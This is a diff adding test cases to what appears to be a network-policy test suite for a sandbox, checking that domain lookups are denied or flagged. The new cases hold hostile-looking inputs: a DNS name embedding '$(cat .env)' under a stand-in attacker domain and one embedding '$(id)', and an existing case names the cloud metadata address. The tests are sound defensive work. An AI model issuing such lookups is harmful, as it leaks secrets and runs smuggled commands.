@@ -13,6 +13,11 @@ network_fires := {
 		"input": at(shd(object.union(dest("registry.npmjs.org", 443, false), {"how": "registry"})), "full"),
 		"decision": "deny",
 	},
+	"net.domain_not_allowed: a name built from data under a domain not listed": {
+		"id": "net.domain_not_allowed",
+		"input": at(shd(object.union(dest("", 53, true), {"known": false, "raw": "$(cat .env).evil.example.net", "suffix": "evil.example.net"})), "full"),
+		"decision": "deny",
+	},
 	"net.private_address: metadata": {
 		"id": "net.private_address",
 		"input": at(shd(object.union(dest("169.254.169.254", 80, false), {"class": "metadata"})), "full"),
@@ -197,6 +202,11 @@ network_quiet := {
 		"id": "net.domain_not_allowed",
 		"input": shd(dest("api.github.com", 443, false)),
 		"decision": "allow",
+	},
+	"net.domain_not_allowed: a name built from data under an allowed wildcard": {
+		"id": "net.domain_not_allowed",
+		"input": at(shd(object.union(dest("", 53, true), {"known": false, "raw": "$(id).api.github.com", "suffix": "api.github.com"})), "full"),
+		"decision": "ask",
 	},
 	"net.private_address: public": {
 		"id": "net.private_address",
